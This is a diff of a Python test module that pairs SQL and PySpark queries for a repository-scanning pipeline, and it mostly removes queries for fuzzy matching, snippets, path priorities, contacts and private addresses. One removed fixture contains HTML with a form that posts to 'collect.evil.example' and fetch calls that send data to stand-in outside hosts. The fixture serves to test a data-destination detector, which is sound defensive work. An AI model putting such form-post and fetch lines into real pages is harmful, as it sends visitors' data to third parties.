@@ -63,18 +63,6 @@ def _(t):
     return t("repositories").select("repo_id", F.array_join(T.tokens(F.col("full_name")), " ").alias("words"))
 
 
-@query("jaro_winkler", "O37")
-def _(t):
-    p = t("part").select(F.explode(F.split("p_name", " ")).alias("a")).distinct()
-    return p.join(p.withColumnRenamed("a", "b"), F.col("a") < F.col("b")).select("a", "b", F.round(T.jaro_winkler("a", "b"), 9).alias("similarity"))
-
-
-@query("fuzzy_pairs", "O38 O110")
-def _(t):
-    words = t("repositories").select(F.explode(T.tokens(F.col("full_name"))).alias("token"))
-    return T.fuzzy_pairs(words, t("brands").select(F.explode(F.split(F.lower("aliases"), ",")).alias("alias")))
-
-
 @query("brand_grep", "O40", """
 select doc_id as repo_id, line_number, case when a then 'the' else 'and' end as term from (
   select doc_id, line_number, regexp_matches(line, '(^|[^A-Za-z0-9])(?i:the)([^a-z0-9]|$)') or regexp_matches(line, '[a-z0-9]T(?i:he)([^a-z0-9]|$)') as a,
@@ -104,21 +92,6 @@ def _(t):
     return units.secret_candidates(documents(t)).groupBy("repo_id").agg(F.count("*").alias("lines"))
 
 
-@query("snippets", "O46", """
-select doc_id, case when i - 41 > 0 then '…' else '' end || trim(substr(text, cast(greatest(0, i - 41) + 1 as bigint), cast(least(length(text), i + 42) - greatest(0, i - 41) as bigint))) || case when i + 42 < length(text) then '…' else '' end as shown
-from (select doc_id, text, strpos(lower(text), 'the') as i from {documents}) x where i > 0 and not contains(text, chr(10))""")
-def _(t):
-    at = F.position(F.lit("the"), F.lower("text")) - 1
-    rows = t("documents").where(~F.contains("text", F.lit("\n"))).withColumn("at", at).where("at >= 0")
-    return rows.select("doc_id", T.snippet(F.col("text"), F.col("at"), F.lit(3)).alias("shown"))
-
-
-@query("snippets_all", "O46")
-def _(t):
-    rows = t("documents").withColumn("at", F.position(F.lit("the"), F.lower("text")) - 1).where("at >= 0")
-    return rows.select("doc_id", T.snippet(F.col("text"), F.col("at"), F.lit(3)).alias("shown"))
-
-
 @query("keyword_dedupe", "O48", "select ord, trim(keyword) as keyword from (select *, row_number() over (partition by lower(trim(keyword)) order by ord) rn from {keywords} where trim(keyword) <> '') x where rn = 1")
 def _(t):
     return T.first_spellings(t("keywords"), "keyword", "ord").select("ord", "keyword")
@@ -137,7 +110,7 @@ def context(t: Tables):
     """The context table: a document is the README of the repository of its number."""
     r, none = t("repositories"), "cast(array() as array<{}>)"
     readme = t("documents").select(F.col("doc_id").alias("repo_id"), F.col("text").alias("readme_text"))
-    rows = r.join(readme, "repo_id", "left").join(F.broadcast(brands(t)), "brand_id", "left")
+    rows = r.join(readme, "repo_id", "left").join(brands(t), "brand_id", "left")
     return rows.withColumns({
         "name": F.element_at(F.split("full_name", "/"), -1), "topics": F.expr(none.format("string")), "readme_path": F.lit("README.md"), "public_repos": F.lit(3).cast("long"),
         "owner_created_at": F.col("created_at"), "file_paths": F.expr("if(repo_id % 9 = 0, array('app/release.apk', 'vercel.json'), if(repo_id % 9 = 1, array('run.ps1', 'src/Procfile'), array('README.md')))"),
@@ -156,21 +129,6 @@ PRIORITIES = "[100, 100, 95, 95, 93, 92, 90, 88, 82, 85, 84, 80, 78, 75, 70, 60,
 CONTENT = "['', '', '', '', '', '', '', '', '', '', '', '', '', '', 'docs', 'locale', '', '', 'template', 'legal', 'docs', '', '', 'locale']"
 
 
-@query("path_priority", "O24", f"select ord, path, {PRIORITIES}[kind + 1] as priority from {{paths}}")
-def _(t):
-    return t("paths").select("ord", "path", paths.priority(F.col("path"), F.array(F.lit("Machinery"))).cast("int").alias("priority"))
-
-
-@query("content_kind", "O26", f"select ord, {CONTENT}[kind + 1] as kind from {{paths}}")
-def _(t):
-    return t("paths").select("ord", F.coalesce(paths.content_kind(F.col("path")), F.lit("")).alias("kind"))
-
-
-@query("excluded_paths", "O6 O7", "select ord, kind = 17 as excluded, kind = 14 as readme from {paths}")
-def _(t):
-    return t("paths").select("ord", paths.is_excluded(F.col("path")).alias("excluded"), paths.is_readme(F.col("path")).alias("readme"))
-
-
 @query("sampled_files", "O25", f"""
 select repo_id, path, turn from (select repo_id, path, row_number() over (partition by repo_id order by ranked desc, case when ranked then p end desc, case when ranked then path end, ord) as turn from (
   select ord % 10 as repo_id, path, ord, {PRIORITIES}[kind + 1] as p, kind not in (3, 18, 21, 22, 23, 7, 10) as ranked from {{paths}}) x) y where turn <= 8""")
@@ -211,19 +169,6 @@ def _(t):
     return source.repositories_of(hits).select("repo_id", "matched_path")
 
 
-@query("patch_files", "O8", """
-select l_orderkey as repo_id, 'history/' || substr(md5(cast(l_partkey as string)), 1, 7) || '/f' || l_linenumber as path, 'new ' || l_partkey || chr(10) || 'x' as content from {lineitem} where l_orderkey < 50""")
-def _(t):
-    return source.history_files(patches(t("lineitem").where("l_orderkey < 50"))).select("repo_id", "path", "content")
-
-
-@query("patch_files_all", "O8", """
-select l_orderkey as repo_id, 'history/' || substr(md5(cast(l_partkey as string)), 1, 7) || '/f' || l_linenumber as path, 'new ' || l_partkey || chr(10) || 'x' as content from {lineitem}
-qualify dense_rank() over (partition by l_orderkey order by l_linenumber) <= 15 and row_number() over (partition by l_orderkey order by l_linenumber) <= 30""")
-def _(t):
-    return source.history_files(patches(t("lineitem"))).select("repo_id", "path", "content")
-
-
 def patches(lines):
     return lines.selectExpr(
         "l_orderkey as repo_id", "l_linenumber as commit_ord", "md5(cast(cast(l_partkey as string) as binary)) as sha", "concat('f', l_linenumber) as path",
@@ -300,37 +245,11 @@ h as (select doc_id, [substr(sha256(array_to_string(w[s : s + 24], chr(1))), 1,
 f as (select doc_id, list_distinct(case when len(h) <= 4 then h else [list_min(h[s : s + 3]) for s in range(1, greatest(1, len(h) - 3) + 1)] end) as f from h)
 select doc_id, cast(len(f) as int) as n, sha256(array_to_string(list_sort(f), ',')) as digest from f""")
 def _(t):
-    return winnowed(t).select("doc_id", F.size("hashes").alias("n"), F.sha2(F.array_join(F.array_sort("hashes"), ","), 256).alias("digest")).where("n > 0")
+    return winnowed(t).select("doc_id", F.size("hashes").alias("n"), F.sha2(F.array_join(F.array_sort("hashes"), ","), 256).alias("digest"))
 
 
 def winnowed(t: Tables, name: str = "documents", key: str = "doc_id"):
-    words = hashing.held(t(name).select(key, "text"), "w", hashing.code_tokens(F.col("text"))).drop("text")
-    grams = hashing.held(words, "h", hashing.gram_hashes(F.col("w"))).drop("w")
-    return grams.select(key, hashing.winnowed(F.col("h")).alias("hashes"))
-
-
-@query("distinctive_phrases", "O78", """
-with l as (select doc_id, pos, raw from (select doc_id, unnest(l) as raw, generate_subscripts(l, 1) as pos from (select doc_id, string_split_regex(text, '\\r?\\n') as l from {documents}
-    where not contains(text, '"') and not contains(text, '''')) x) y),
-s as (select doc_id, pos, trim(regexp_replace(raw, '\\s+', ' ', 'g')) as text from l),
-c as (select *, len([w for w in regexp_extract_all(lower(text), '[a-z][a-z]+') if length(w) >= 4 and not list_contains(string_split('STOPWORDS', ' '), w)]) as n from s where length(text) between 12 and 200),
-d as (select * from (select *, row_number() over (partition by doc_id, lower(text) order by pos) rn from c where n >= 3) x where rn = 1)
-select doc_id, text, cast(n as int) as significant_words, row_number() over (partition by doc_id order by n desc, pos) as turn from d""".replace("STOPWORDS", " ".join(K.STOPWORDS)))
-def _(t):
-    plain = t("documents").where(~F.contains("text", F.lit('"')) & ~F.contains("text", F.lit("'")))
-    return extract.phrases(plain, "doc_id", "text").withColumn("turn", F.col("turn").cast("long"))
-
-
-@query("distinctive_phrases_all", "O78")
-def _(t):
-    return extract.phrases(t("documents"), "doc_id", "text").withColumn("turn", F.col("turn").cast("long"))
-
-
-@query("contacts", "O67", """
-select doc_id, lower(v) as value from (select doc_id, unnest(regexp_extract_all(text, '(?i)[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}')) as v from {documents}) x group by doc_id, lower(v)""")
-def _(t):
-    found = t("documents").select("doc_id", F.inline(extract.contacts(F.col("text"))))
-    return found.where("kind = 'email'").select("doc_id", "value")
+    return t(name).select(key, hashing.fingerprints(F.col("text")).alias("hashes")).where(F.size("hashes") > 0)
 
 
 @query("url_hosts", "O69", "select page_id, lower(regexp_extract(url, '^https?://([^/?#]+)', 1)) as host from {pages}")
@@ -338,31 +257,6 @@ def _(t):
     return t("pages").select("page_id", extract.host(F.col("url")).alias("host"))
 
 
-@query("private_addresses", "O70", """
-select ip, case when b > 255 then false else a in (127, 10, 0) or (a = 172 and b between 16 and 31) or (a = 192 and b = 168) or (a = 169 and b = 254) end as private
-from (select cast(p_partkey as string) || '.' || cast(p_size * 8 as string) || '.1.2' as ip, p_partkey as a, p_size * 8 as b from {part} where p_partkey < 256) x""")
-def _(t):
-    ip = F.concat_ws(".", F.col("p_partkey").cast("string"), (F.col("p_size") * 8).cast("string"), F.lit("1.2"))
-    return t("part").where("p_partkey < 256").select(ip.alias("ip"), extract.is_private_ipv4(ip).alias("private"))
-
-
-@query("data_destinations", "O68", """
-select l.page_id as repo_id, h.hostname, h.turn from {pages} l join (values ('collect.evil.example', 1), ('pay.other.example', 2)) h(hostname, turn) on true""")
-def _(t):
-    code = (
-        "<form method='post' action=\"https://collect.evil.example/x\"> fetch('https://pay.other.example/1') fetch('https://collect.evil.example/2') "
-        "axios.post(`https://api.machinery.com/3`) BASE_URL = \"https://unpkg.com/4\" fetch('/relative')"
-    )
-    files = t("pages").select(F.col("page_id").alias("repo_id"), F.lit(0).alias("ord"), F.lit("index.html").alias("path"), F.concat("html", F.lit(code)).alias("content"))
-    return extract.destinations(files, F.array(F.lit("Machinery"))).select("repo_id", "hostname", F.col("turn").cast("int").alias("turn"))
-
-
-@query("synthetic_index", "O84", "select query, 200000 + h % 800000 as idx from (values ('abc', 96354), ('a', 97), ('', 0), ('zz', 3904)) t(query, h)")
-def _(t):
-    rows = t.rows([("abc",), ("a",), ("",), ("zz",)], "query string")
-    return rows.select("query", hashing.synthetic_index(200_000, F.col("query")).alias("idx"))
-
-
 @query("keys_and_hashes", "O66 O80 O83", """
 select p_partkey, substr(sha256(p_partkey || ':main:rule-a,rule-a,rule-b'), 1, 32) as finding, substr(sha256(p_partkey || ':rule-b'), 1, 32) as single, sha256('code:' || p_name) as query,
   substr(sha256('1:a,b,c'), 1, 16) as version, sha256(p_name) as known from {part}""")
@@ -399,14 +293,6 @@ def _(t):
     return rows.select("q", dates.bounded(F.col("q")).alias("made"))
 
 
-@query("halved_ranges", "O88 O142", """
-select k, part, half from (values (0, 0, 'size:0..50000000'), (0, 1, 'size:50000001..100000000'), (1, 0, 'a created:2020-01-01..2020-01-01T11:59:58Z'), (1, 1, 'a created:2020-01-01T11:59:59Z..2020-01-01')) t(k, part, half)""")
-def _(t):
-    rows = t.rows([(0, "size:0..100000000"), (1, "a created:2020-01-01..2020-01-01"), (2, "size:1..9"), (3, "created:2020-01-01T00:00:00Z..2020-01-01T00:00:59Z"), (4, "none")], "k int, q string")
-    half = F.coalesce(dates.halved_size(F.col("q")), dates.halved_created(F.col("q")))
-    return rows.select("k", F.posexplode(half).alias("part", "half"))
-
-
 @query("language_splits", "O89", """
 select p_partkey, case when g = 9 then p_name || ' -language:JavaScript -language:TypeScript -language:Python -language:Java -language:Go -language:PHP -language:Ruby -language:Shell'
   else p_name || ' language:' || ['JavaScript', 'TypeScript', 'Python', 'Java', 'Go', 'PHP', 'Ruby', 'Shell'][g] end as q from {part}, range(1, 10) r(g)""")
